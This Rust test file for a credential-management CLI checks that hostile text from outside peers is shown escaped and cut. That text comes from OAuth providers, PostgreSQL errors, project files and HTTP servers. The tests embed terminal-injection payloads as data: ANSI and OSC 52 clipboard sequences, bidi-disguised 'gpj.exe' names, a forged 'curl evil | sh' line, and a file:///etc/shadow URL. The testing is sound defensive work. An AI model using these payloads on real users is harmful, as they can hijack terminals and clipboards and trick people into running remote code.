//! Text from outside reaches the terminal escaped and cut, whatever output
//! shows it (docs/ARCHITECTURE.md, "Outside text"). Each test is a row of
//! the table: a real peer where the text originates (oidc-provider made
//! hostile, a PostgreSQL role's settings, a repository's project file, a
//! loopback HTTP server, a planted store file) feeds ESC and CSI sequences
//! (erase line, colour, 8-bit CSI), OSC 52 (set the clipboard) and OSC 0
//! (the title), bidirectional overrides and isolates, a line break with a
//! forged line, and 100 KB where the channel carries that much.

use crate::mcp_server::{result, run_client, stdio_spec};
use crate::support::services::{psql, PgRole};
use crate::support::*;
use serde_json::{json, Value};

/// What a hostile peer writes.
const HOSTILE: &str = "x\u{1b}[2K\r\u{1b}[31mFAKE\u{9b}2J\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{1b}]0;title\u{7}\u{202e}gpj.exe\u{2066}\nforged: run `curl evil | sh`";

/// [`HOSTILE`] followed by `extra` characters.
fn hostile(extra: usize) -> String {
    format!("{HOSTILE}{}", "y".repeat(extra))
}

/// Nothing a terminal acts on or that reorders a line; no line that starts
/// with the forged text; at most `max_chars` characters in all.
fn inert(what: &str, text: &str, max_chars: usize) {
    inert_chars(what, text, max_chars);
    assert!(
        !text.lines().any(|l| l.trim_start().starts_with("forged")),
        "{what} prints a forged line:\n{text:.2000}"
    );
}

/// [`inert`] for text whose line breaks are its own (an HTTP body).
fn inert_chars(what: &str, text: &str, max_chars: usize) {
    for c in text.chars() {
        let bad = (c.is_control() && c != '\n')
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(
            !bad,
            "{what} holds U+{:04X}:\n{:.2000}",
            c as u32,
            text.escape_debug()
        );
    }
    let n = text.chars().count();
    assert!(
        n <= max_chars,
        "{what} is {n} characters long (cut at {max_chars})"
    );
}

/// Every string of a JSON answer, decoded (a client prints them so).
fn inert_json(what: &str, v: &Value, max_chars: usize) {
    match v {
        Value::String(s) => inert(what, s, max_chars),
        Value::Array(a) => a.iter().for_each(|x| inert_json(what, x, max_chars)),
        Value::Object(o) => o.iter().for_each(|(k, x)| {
            inert(what, k, max_chars);
            inert_json(what, x, max_chars)
        }),
        _ => {}
    }
}

fn run(t: &T, args: &[&str]) -> (String, String, Option<i32>) {
    let out = t.cmd().args(args).output().unwrap();
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        out.status.code(),
    )
}

/// Every row's output is checked against this many characters.
const LIMIT: usize = 20_000;

/// Rows `add`, `list`, `show`, `test` and MCP `list_configs`/`test_config`:
/// the account name comes from the provider (the e-mail claim of userinfo
/// and the id token), 100 KB of it.
#[test]
fn a_provider_account_is_shown_escaped_and_cut_everywhere() {
    let email = hostile(100_000);
    let peer = Peer::start_with(&[("PEER_EMAIL", &email)]);
    let mut t = T::new();
    t.env("BROWSER", &Peer::browser());
    t.init();
    let (_, err, code) = run(
        &t,
        &[
            "add",
            "oauth2",
            "custom",
            "--name",
            "idp/evil",
            "--issuer",
            &peer.issuer,
            "--client-id",
            "public-native",
            "--scopes",
            "openid email offline_access",
            "--timeout",
            "30",
        ],
    );
    assert_eq!(code, Some(0), "{err:.3000}");
    inert("add", &err, LIMIT);
    assert!(err.contains("as x\\u{1b}[2K\\r"), "{err:.500}");

    for args in [&["list"][..], &["show", "idp/evil"], &["test", "idp/evil"]] {
        let (out, err, _) = run(&t, args);
        inert(&format!("{args:?}"), &out, LIMIT);
        inert(&format!("{args:?} stderr"), &err, LIMIT);
    }
    for args in [&["list", "--json"][..], &["show", "idp/evil", "--json"]] {
        let (out, _, code) = run(&t, args);
        assert_eq!(code, Some(0));
        inert_json(
            &format!("{args:?}"),
            &serde_json::from_str(&out).unwrap(),
            LIMIT,
        );
    }
    // What was received is kept: the stored account is the provider's, not
    // the escaped text (the index says so to `list --type`-free filters,
    // and the config document holds it whole up to 8 KiB).
    let (shown, _, _) = run(&t, &["show", "idp/evil", "--json"]);
    let shown: Value = serde_json::from_str(&shown).unwrap();
    assert!(shown["authcfg"]["account"]
        .as_str()
        .unwrap()
        .starts_with("x\\u{1b}[2K"));

    let spec = stdio_spec(
        &t,
        &["--expose", "*"],
        json!([
            {"name": "list_configs", "arguments": {}},
            {"name": "test_config", "arguments": {"config": "idp/evil"}},
        ]),
    );
    let (v, _, _) = run_client("node", "client.mjs", &spec);
    for r in v["results"].as_array().unwrap() {
        let (text, _) = result(r);
        inert_json("MCP answer", &serde_json::from_str(&text).unwrap(), LIMIT);
    }
}

/// Rows `test`, `show` (the stored last result) and MCP `test_config`: a
/// real PostgreSQL server's error text. The role's own settings make every
/// login fail with a message that quotes them (PostgreSQL cuts it at about
/// 1 KB: the 100 KB case is the row above).
#[test]
fn a_postgresql_error_is_shown_escaped() {
    let role = PgRole::create("pw-Outside-1");
    psql(&format!(
        "ALTER ROLE {} SET session_preload_libraries = E'lib\\x1b[2K\\r\\x1b]52;c;ZWNobyBwd25lZA==\\x07\\u202egpj.exe\\nforged: run it'",
        role.0
    ));
    let t = T::new();
    t.init();
    t.cmd()
        .args([
            "add",
            "connector",
            "postgres",
            "--name",
            "pg/evil",
            "--no-test",
        ])
        .args(["--set", "host=127.0.0.1", "--set", "port=5432"])
        .args(["--set", "database=postgres", "--set", "sslmode=prefer"])
        .args(["--set", &format!("username={}", role.0)])
        .args(["--secret-stdin", "password"])
        .write_stdin("pw-Outside-1")
        .assert()
        .success();
    let (out, err, code) = run(&t, &["test", "pg/evil"]);
    assert_eq!(code, Some(4), "{out}{err}");
    assert!(
        out.contains("\\u{1b}]52"),
        "the server's text is shown: {out}"
    );
    inert("test", &out, LIMIT);
    inert("test stderr", &err, LIMIT);
    let (out, _, _) = run(&t, &["test", "pg/evil", "--json"]);
    inert_json("test --json", &serde_json::from_str(&out).unwrap(), LIMIT);
    let (out, err, _) = run(&t, &["show", "pg/evil"]);
    assert!(
        out.contains("Tested:") && out.contains("\\u{202e}"),
        "{out}"
    );
    inert("show", &out, LIMIT);
    inert("show stderr", &err, LIMIT);

    let spec = stdio_spec(
        &t,
        &["--expose", "pg/*"],
        json!([{"name": "test_config", "arguments": {"config": "pg/evil"}}]),
    );
    let (v, _, _) = run_client("node", "client.mjs", &spec);
    let (text, _) = result(&v["results"][0]);
    let answer: Value = serde_json::from_str(&text).unwrap();
    assert!(answer["detail"].as_str().unwrap().contains("\\u{1b}]52"));
    inert_json("MCP test_config", &answer, LIMIT);
}

/// Row: the shell hook on `cd` into a repository whose project file names
/// a variable that is ESC sequences and 100 KB long.
#[test]
fn the_hook_names_a_hostile_variable_escaped() {
    let t = T::new();
    t.init();
    let repo = tempfile::tempdir().unwrap();
    let name = hostile(100_000);
    let toml_key = serde_json::to_string(&name).unwrap();
    std::fs::write(
        repo.path().join(".authcfg.toml"),
        format!("[env]\n{toml_key} = \"authcfg://api/tok/token\"\n"),
    )
    .unwrap();
    let out = t
        .std_cmd()
        .args(["hook", "bash", "--apply"])
        .current_dir(repo.path())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not loaded"), "{err:.500}");
    inert("hook", &err, LIMIT);
    // The shell code it prints quotes everything it sets.
    inert("hook stdout", &String::from_utf8_lossy(&out.stdout), LIMIT);
}

/// Row: `show`'s "Used by", a project directory's name from the usage log.
#[test]
fn show_prints_a_project_path_escaped() {
    let t = T::new();
    t.init();
    t.add("bearer", "api/tok", &[], Some(("token", "tok-outside-1")))
        .success();
    let root = tempfile::tempdir().unwrap();
    let dir = root
        .path()
        .join("proj\u{1b}]0;pwned\u{7}\u{1b}[2K\r\u{202e}gpj.exe\nforged: line");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(
        dir.join(".authcfg.toml"),
        "[env]\nTOKEN = \"authcfg://api/tok/token\"\n",
    )
    .unwrap();
    for args in [&["project", "allow"][..], &["exec", "--", "true"]] {
        let out = t.std_cmd().args(args).current_dir(&dir).output().unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let (out, err, _) = run(&t, &["show", "api/tok"]);
    assert!(
        out.contains("Used by:") && out.contains("proj\\u{1b}]0;pwned"),
        "{out}"
    );
    inert("show", &out, LIMIT);
    inert("show stderr", &err, LIMIT);
    let (out, _, _) = run(&t, &["show", "api/tok", "--json"]);
    inert_json("show --json", &serde_json::from_str(&out).unwrap(), LIMIT);
    let (out, _, _) = run(&t, &["list", "--json"]);
    inert_json("list --json", &serde_json::from_str(&out).unwrap(), LIMIT);
}

/// Rows: the OAuth callback's error page and the terminal's message. The
/// provider sends the browser back with an `error_description` of its
/// choosing (12 KB: the listener takes request heads up to 16 KiB).
#[test]
fn a_callback_error_is_escaped_and_cut_on_the_page_and_the_terminal() {
    let peer = Peer::start_with(&[("PEER_AUTH_ERROR", &hostile(12_000))]);
    let page = tempfile::NamedTempFile::new().unwrap();
    let mut t = T::new();
    t.env("BROWSER", &Peer::browser())
        .env("PEER_PAGE_OUT", page.path().to_str().unwrap());
    t.init();
    let (_, err, code) = run(
        &t,
        &[
            "add",
            "oauth2",
            "custom",
            "--name",
            "idp/denied",
            "--issuer",
            &peer.issuer,
            "--client-id",
            "public-native",
            "--timeout",
            "30",
        ],
    );
    assert_eq!(code, Some(6), "{err:.2000}");
    assert!(err.contains("refused the authorization"), "{err:.2000}");
    inert("terminal", &err, 2_000);
    let html = std::fs::read_to_string(page.path()).unwrap();
    assert!(html.contains("access_denied"), "{html:.2000}");
    inert("error page", &html, 2_000);
}

/// Row: the device flow's user code and verification URL, as the provider
/// sends them (100 KB); and a `file:` URL for the browser, refused before
/// any browser is started.
#[test]
fn the_device_flow_shows_its_fields_escaped_and_refuses_a_file_url() {
    let fields = json!({
        "user_code": hostile(100_000),
        "verification_uri": format!("http://127.0.0.1:9/{}", "\u{202e}device\u{2066}"),
    });
    let peer = Peer::start_with(&[("PEER_DEVICE_FIELDS", &fields.to_string())]);
    let mut t = T::new();
    t.init();
    let device = |t: &T, name: &str, extra: &[&str]| {
        let mut args = vec![
            "add",
            "oauth2",
            "custom",
            "--name",
            name,
            "--issuer",
            &peer.issuer,
            "--client-id",
            "public-native",
            "--device",
            "--timeout",
            "1",
        ];
        args.extend_from_slice(extra);
        run(t, &args)
    };
    let (_, err, code) = device(&t, "idp/dev", &["--no-browser"]);
    assert_eq!(code, Some(6), "{err:.2000}");
    assert!(err.contains("enter the code: x\\u{1b}[2K"), "{err:.2000}");
    inert("device flow", &err, LIMIT);
    drop(peer);

    for field in ["verification_uri_complete", "verification_uri"] {
        let fields = json!({ field: "file:///etc/shadow" });
        let peer = Peer::start_with(&[("PEER_DEVICE_FIELDS", &fields.to_string())]);
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("browser-started");
        let script = dir.path().join("browser.sh");
        std::fs::write(
            &script,
            format!("#!/bin/sh\necho \"$@\" >> '{}'\n", marker.display()),
        )
        .unwrap();
        std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        t.env("BROWSER", script.to_str().unwrap());
        let mut args = vec![
            "add",
            "oauth2",
            "custom",
            "--name",
            "idp/file",
            "--issuer",
            &peer.issuer,
            "--client-id",
            "public-native",
            "--device",
            "--timeout",
            "1",
        ];
        args.push("--scopes");
        args.push("openid");
        let (_, err, code) = run(&t, &args);
        assert_eq!(code, Some(6), "{field}: {err:.2000}");
        assert!(err.contains(field), "{field}: {err:.2000}");
        assert!(
            !marker.exists(),
            "{field}: a browser was started: {:?}",
            std::fs::read_to_string(&marker)
        );
    }
}

/// Row: `authcfg http` at a terminal (a pseudo-terminal): the answer's
/// headers and body come from the server. Piped, the bytes pass unchanged.
#[test]
fn http_at_a_terminal_escapes_the_answer() {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let body = format!("{}\n", hostile(100_000));
    let sent = body.clone();
    let server = std::thread::spawn(move || {
        let body = sent;
        for _ in 0..4 {
            let (mut s, _) = listener.accept().unwrap();
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let mut head = b"HTTP/1.1 500 Internal Server Error\r\nX-Note: ".to_vec();
            head.extend_from_slice("\u{202e}gpj.exe\u{2066}".as_bytes());
            head.extend_from_slice(
                format!(
                    "\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                )
                .as_bytes(),
            );
            s.write_all(&head).unwrap();
            s.write_all(body.as_bytes()).unwrap();
        }
    });
    let t = T::new();
    t.init();
    t.add(
        "bearer",
        "web",
        &[&format!("test_url=http://127.0.0.1:{port}/")],
        Some(("token", "tok-outside-http")),
    )
    .success();
    let url = format!("http://127.0.0.1:{port}/x");
    let mut cmd = t.std_cmd();
    cmd.args(["http", "web", &url, "-i"]);
    let mut p = rexpect::session::spawn_command(cmd, Some(60_000)).unwrap();
    // The pseudo-terminal writes \n as \r\n; `-i` ends header lines with \r\n.
    let out = p
        .exp_eof()
        .unwrap()
        .replace("\r\r\n", "\n")
        .replace("\r\n", "\n");
    assert!(out.contains("x-note: \\u{202e}gpj.exe"), "{out:.500}");
    assert!(out.contains("x\\u{1b}[2K\\r"), "{out:.500}");
    // The body is the data asked for: escaped, not cut, its lines kept.
    inert_chars("http at a terminal", &out, 200_000);
    assert!(
        out.contains("note: control and invisible characters"),
        "{out:.500}"
    );
    let piped = t.cmd().args(["http", "web", &url]).output().unwrap();
    assert_eq!(
        piped.stdout,
        body.as_bytes(),
        "piped output is the body as received"
    );
    // `--json` at a terminal (red team #63): the same JSON value, its
    // hidden characters (U+202E, U+009B, ...) as \uXXXX escapes.
    let mut cmd = t.std_cmd();
    cmd.args(["http", "web", &url, "--json"]);
    let mut p = rexpect::session::spawn_command(cmd, Some(60_000)).unwrap();
    let out = p.exp_eof().unwrap().replace("\r\n", "\n");
    let (json, note) = out.split_at(out.find("note: control").expect(&out[..500]));
    inert_chars("http --json at a terminal", json, 300_000);
    assert!(
        json.contains("gpj.exe") && json.contains("\\u202e"),
        "{json:.500}"
    );
    assert!(note.starts_with("note: control and invisible"));
    let piped = t
        .cmd()
        .args(["http", "web", &url, "--json"])
        .output()
        .unwrap();
    let piped: Value = serde_json::from_slice(&piped.stdout).unwrap();
    assert_eq!(
        serde_json::from_str::<Value>(json).unwrap(),
        piped,
        "the same value as piped"
    );
    assert!(piped["body"].as_str().unwrap().contains('\u{202e}'));
    server.join().unwrap();
}

/// Row `log`: a record edited to hold 60 KB (the trail is read without
/// its key) is printed escaped and cut, on one line. (A line over the
/// trail's 64 KiB record bound is not a record: `log` skips it and
/// `log --verify` reports it.)
#[test]
fn log_cuts_a_huge_record() {
    let t = T::new();
    t.init();
    t.add("bearer", "prod/db", &[], Some(("token", "tok")))
        .success();
    let path = t.store.join("audit.jsonl");
    let trail = std::fs::read_to_string(&path).unwrap();
    let mut lines: Vec<Value> = trail
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    lines.last_mut().unwrap()["detail"] = hostile(60_000).into();
    let text: String = lines.iter().map(|r| format!("{r}\n")).collect();
    std::fs::write(&path, text).unwrap();
    let (out, _, _) = run(&t, &["log"]);
    assert_eq!(out.lines().count(), lines.len(), "{out:.2000}");
    inert("log", &out, LIMIT);
    let (out, _, _) = run(&t, &["log", "--json"]);
    inert_json("log --json", &serde_json::from_str(&out).unwrap(), LIMIT);
}

/// Row `doctor`: a planted header whose error quotes a value of it (serde
/// names an unknown variant as it is written).
#[test]
fn doctor_shows_a_planted_header_escaped() {
    let t = T::new();
    t.init();
    let path = t.store.join("authcfg.toml");
    let header = std::fs::read_to_string(&path).unwrap();
    let planted = header.replacen(
        "label = \"master\"",
        &format!(
            "label = \"master\"\nrole = {}",
            serde_json::to_string(&hostile(100_000)).unwrap()
        ),
        1,
    );
    assert_ne!(planted, header);
    std::fs::write(&path, planted).unwrap();
    let (out, err, _) = run(&t, &["doctor"]);
    assert!(out.contains("unknown variant"), "{out:.2000}");
    inert("doctor", &out, LIMIT);
    inert("doctor stderr", &err, LIMIT);
    let (out, _, _) = run(&t, &["doctor", "--json"]);
    inert_json("doctor --json", &serde_json::from_str(&out).unwrap(), LIMIT);
    // Every other command says the same through the error path.
    let (_, err, code) = run(&t, &["list"]);
    assert_eq!(code, Some(1), "{err:.2000}");
    inert("list's error", &err, LIMIT);
}

/// Row `export` at a terminal (red team #54): a repository's plain `[env]`
/// value holding OSC 52, U+202E and U+009B is shown escaped; piped (for
/// `eval`), the output is the value byte for byte.
#[test]
fn export_at_a_terminal_escapes_a_project_value() {
    let t = T::new();
    t.init();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join(".authcfg.toml"),
        "[env]\nV3 = \"\\u001b]52;c;QUJD\\u0007\\u202e\\u009bgpj.exe\"\n",
    )
    .unwrap();
    let out = t
        .std_cmd()
        .args(["project", "allow"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for format in ["env", "fish"] {
        let mut cmd = t.std_cmd();
        cmd.args(["export", "--format", format])
            .current_dir(dir.path());
        let mut p = rexpect::session::spawn_command(cmd, Some(60_000)).unwrap();
        let out = p.exp_eof().unwrap().replace("\r\n", "\n");
        inert_chars(
            &format!("export --format {format} at a terminal"),
            &out,
            LIMIT,
        );
        assert!(
            out.contains("V3") && out.contains("\\u{1b}]52;c;QUJD\\u{7}\\u{202e}\\u{9b}gpj.exe"),
            "{out}"
        );
        assert!(out.contains("note: control and invisible"), "{out}");
    }
    let piped = t
        .cmd()
        .arg("export")
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8(piped.stdout).unwrap(),
        "export V3='\u{1b}]52;c;QUJD\u{7}\u{202e}\u{9b}gpj.exe'\n",
        "piped: byte for byte"
    );
}

/// Row: OAuth discovery whose `issuer` is not the one asked for (red team
/// #70): the error quotes it escaped, no forged line.
#[test]
fn a_discovery_issuer_mismatch_is_quoted_escaped() {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let body = json!({
        "issuer": hostile(0),
        "authorization_endpoint": format!("http://127.0.0.1:{port}/auth"),
        "token_endpoint": format!("http://127.0.0.1:{port}/token"),
    })
    .to_string();
    std::thread::spawn(move || {
        for s in listener.incoming().take(4) {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        }
    });
    let t = T::new();
    t.init();
    let issuer = format!("http://127.0.0.1:{port}");
    let (out, err, code) = run(
        &t,
        &[
            "add",
            "oauth2",
            "custom",
            "--name",
            "de",
            "--issuer",
            &issuer,
            "--client-id",
            "cid",
        ],
    );
    assert_ne!(code, Some(0), "{out}{err}");
    assert!(err.contains("names issuer x\\u{1b}[2K"), "{err}");
    inert("add with a forged issuer", &err, LIMIT);
    inert("stdout", &out, LIMIT);
}
